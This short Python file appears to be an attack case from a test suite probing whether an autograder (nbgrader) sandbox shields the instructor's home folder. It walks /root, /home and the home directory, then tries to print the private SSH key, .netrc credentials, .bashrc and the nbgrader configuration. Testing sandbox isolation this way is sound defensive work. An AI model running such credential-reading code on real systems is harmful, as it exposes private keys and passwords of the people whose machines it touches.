"""The home folder of the instructor."""

# /// attack
# module = "02"
# status = ["graded"]
# ///

# %% first
import os
for folder in ("@HOME@", "/root", "/home", os.path.expanduser("~")):
    for path, folders, files in os.walk(folder):
        print(path, files[:5])
        if path.count("/") > 4:
            folders.clear()
for name in (".ssh/id_rsa", ".bashrc", ".jupyter/nbgrader_config.py", ".netrc"):
    try:
        print(open(os.path.join("@HOME@", name)).read())
    except OSError as error:
        print(error)
